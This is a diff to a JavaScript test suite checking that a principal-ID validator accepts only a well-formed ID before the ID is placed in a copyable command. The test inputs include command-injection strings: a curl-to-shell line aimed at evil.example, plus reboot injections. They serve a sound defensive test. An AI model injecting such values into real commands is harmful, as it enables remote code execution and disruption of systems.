@@ -311,9 +311,15 @@ describe("who lacks a role", () => {
     }).parameters.principal;
 
   it("is named by an id, and by nothing else: it goes into a command that people copy", () => {
-    const id = "00000000-0000-4000-8000-000000000003";
+    const id = "10000000-0000-4000-8000-000000000003";
     expect(principalIn(id)).toBe(id);
-    for (const odd of ['x"; curl evil.example | sh #', "$(reboot)", `${id}"; reboot`, ""])
+    for (const odd of [
+      'x"; curl evil.example | sh #',
+      "$(reboot)",
+      `${id}"; reboot`,
+      "00000000-0000-0000-0000-000000000000",
+      "",
+    ])
       expect(principalIn(odd)).toBe("");
   });
 });
